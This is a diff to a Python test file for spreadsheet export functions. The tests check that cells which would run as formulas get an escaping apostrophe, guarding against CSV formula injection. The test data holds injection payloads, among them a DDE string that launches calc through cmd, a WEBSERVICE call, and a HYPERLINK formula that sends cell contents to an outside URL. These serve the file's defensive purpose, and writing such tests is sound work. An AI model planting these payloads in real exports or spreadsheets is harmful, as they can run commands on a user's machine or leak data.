@@ -1,4 +1,4 @@
-"""Exports: what is written reads back, and no spreadsheet program takes a cell for a formula."""
+"""Exports: what is written reads back, and a spreadsheet program runs none of it."""
 
 from __future__ import annotations
 
@@ -16,10 +16,37 @@ import pytest
 from projects.readers import ReadLimits, read_table
 from studio.engine.errors import DataProblem
 from studio.engine.progress import Silent
-from studio.exports import stream_csv, stream_exact_csv, stream_json, workbook, write_parquet, write_xlsx
+from studio.exports import (
+    stream_csv,
+    stream_exact_csv,
+    stream_json,
+    stream_safe_csv,
+    workbook,
+    write_parquet,
+    write_xlsx,
+)
 
-FORMULAS = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", "--", "+49 170 1"]
-HARMLESS = ["-3.5", "+4", "-1e-7", "-1,200", "-12%", "007", " =1", "a=b", "", "'tis", "12345678901234567890", "-", "="]
+RUN = [
+    "=1+1", "= 1+1", "+SUM(A1)", "-2+3", "- 2 + 3", "@cmd", "@SUM(1)", "\t=1", "=cmd|' /C calc'!A0", "--", "+A1",
+    "-1+cmd|' /C calc'!A0", "+49-170-1", "@user - hi", "-wow WEBSERVICE (A1)", "＝1+1", "＋SUM(A1)", "－A1",
+    "＠SUM(A1)",
+    '=HYPERLINK("https://example.org/?"&A1,"more")',
+]  # fmt: skip
+RUN_WHEN_PARTED = {
+    "1;=A1": "1;'=A1",
+    'x; "=A1': "x; \"'=A1",
+    "a;+SUM(A1);=B2": "a;'+SUM(A1);'=B2",
+    "fine;@cmd|' /C calc'!A0": "fine;'@cmd|' /C calc'!A0",
+    "one line\n=A1": "one line\n'=A1",
+    "one\r\n-SUM(A1)": "one\r\n'-SUM(A1)",
+    "\n=1": "'\n'=1",
+}
+NOT_RUN = [
+    "-3.5", "+4", "-1e-7", "-1,200", "-12%", "-5 °C", "-5kg", "-$5", "-€ 5", "007", " =1", "a=b", "", "'tis",
+    "12345678901234567890", "-", "=", "+49 30 123", "+49 (30) 123-45", "- none -", "-- the end",
+    "@you thanks for that!", "+ fast delivery\n- no manual", "=) nice", "so it goes ;-)", "a; b", "-.5",
+    "2024-01-31", "x;-3",
+]  # fmt: skip
 
 
 def batch(**columns: object) -> pa.RecordBatch:
@@ -36,22 +63,54 @@ def read_back(path: Path) -> list[tuple[str | None, ...]]:
     return list(zip(*[column.to_pylist() for column in pq.read_table(out).columns[1:]], strict=True))
 
 
-def test_formulas_get_an_apostrophe_in_csv() -> None:
-    rows = parsed(stream_csv(["text"], [batch(text=FORMULAS)]))
-    assert [row[0] for row in rows[1:]] == [f"'{text}" for text in FORMULAS]
+def guarded(cells: list[str], *, columns: str = "text") -> list[str]:
+    rows = parsed(stream_csv(["n", "text"], [batch(n=range(len(cells)), text=cells)], guarded={columns}))
+    return [row[1] for row in rows[1:]]
 
 
-def test_plain_numbers_and_harmless_cells_stay_as_they_are_in_csv() -> None:
-    rows = parsed(stream_csv(["n", "text"], [batch(n=range(len(HARMLESS)), text=HARMLESS)]))
-    assert [row[1] for row in rows[1:]] == HARMLESS
+def safe(cells: list[str]) -> list[str]:
+    rows = parsed(stream_safe_csv(["n", "text"], [batch(n=range(len(cells)), text=cells)]))
+    return [row[1] for row in rows[1:]]
 
 
-def test_a_column_name_is_no_formula_either() -> None:
-    assert parsed(stream_csv(["=1+1", "-5"], []))[0] == ["'=1+1", "-5"]
+def test_what_a_spreadsheet_would_run_gets_an_apostrophe_in_the_columns_named() -> None:
+    assert guarded(RUN) == [f"'{text}" for text in RUN]
+    assert guarded(RUN, columns="n") == RUN
+
+
+def test_formula_that_stands_alone_once_a_cell_is_parted_at_a_semicolon_or_line_gets_one() -> None:
+    assert guarded(list(RUN_WHEN_PARTED)) == list(RUN_WHEN_PARTED.values())
+
+
+def test_what_no_spreadsheet_runs_stays_as_it_is() -> None:
+    assert guarded(NOT_RUN) == NOT_RUN
+
+
+def test_column_names_are_only_altered_when_asked() -> None:
+    assert parsed(stream_csv(["=1+1", "@text", "-5"], [], guarded={"@text"}))[0] == ["=1+1", "@text", "-5"]
+    assert parsed(stream_safe_csv(["=1+1", "@text", "-5"], []))[0] == ["'=1+1", "'@text", "-5"]
+
+
+def test_safe_csv_has_no_cell_that_begins_as_a_formula_does_and_leaves_numbers() -> None:
+    begin = [*RUN, "- none -", "@you thanks for that!", "-- the end", "=) nice", "＠billing"]
+    assert safe(begin) == [f"'{text}" for text in begin]
+    numbers = ["-3.5", "+4", "-1,200", "-5 °C", "+49 30 123", "+49 (30) 123-45", "", "-", "x"]
+    assert safe(numbers) == numbers
+    assert safe(["1;- none -", "a\n+ b"]) == ["1;'- none -", "a\n'+ b"]
 
 
 def test_exact_csv_alters_nothing() -> None:
-    cells = [*FORMULAS, *HARMLESS, 'say "hi"', "a,b", "one\r\ntwo", "bare\rreturn", "  padded  ", "ünïcödé 很好"]
+    cells = [
+        *RUN,
+        *RUN_WHEN_PARTED,
+        *NOT_RUN,
+        'say "hi"',
+        "a,b",
+        "one\r\ntwo",
+        "bare\rreturn",
+        "  padded  ",
+        "ünïcödé 很好",
+    ]
     rows = parsed(stream_exact_csv(["=n", "text"], [batch(n=["1"] * len(cells), text=cells)]))
     assert rows[0] == ["=n", "text"]
     assert [row[1] for row in rows[1:]] == cells
@@ -59,7 +118,7 @@ def test_exact_csv_alters_nothing() -> None:
 
 def test_typed_values_are_written_canonically_in_csv() -> None:
     score = pa.array([0.3, 1.0, None], pa.float32())
-    rows = parsed(stream_csv(["flag", "n", "score"], [pa.RecordBatch.from_arrays(
+    rows = parsed(stream_safe_csv(["flag", "n", "score"], [pa.RecordBatch.from_arrays(
         [pa.array([True, False, None]), pa.array([1, -2, None]), score], names=["a", "b", "c"])]))  # fmt: skip
     assert rows[1:] == [["True", "1", "0.3"], ["False", "-2", "1.0"], ["", "", ""]]
 
@@ -72,7 +131,7 @@ def test_csv_comes_in_pieces_without_reading_ahead() -> None:
             taken.append(number)
             yield batch(text=["x"])
 
-    stream = stream_csv(["text"], batches())
+    stream = stream_exact_csv(["text"], batches())
     next(stream), next(stream)
     assert len(taken) == 1
 
@@ -122,8 +181,7 @@ def test_xlsx_holds_no_formula_and_reads_back(tmp_path: Path) -> None:
     stored = openpyxl.load_workbook(path).active
     assert stored is not None
     assert {cell.data_type for (cell,) in stored.iter_rows(max_col=1)} == {"s"}
-    expected = ["'=1+1", *cells[1:]]
-    assert read_back(path) == [(text, str(n)) for n, text in enumerate(expected)]
+    assert read_back(path) == [(text, str(n)) for n, text in enumerate(cells)]
 
 
 def test_xlsx_keeps_numbers_and_truth_values(tmp_path: Path) -> None:
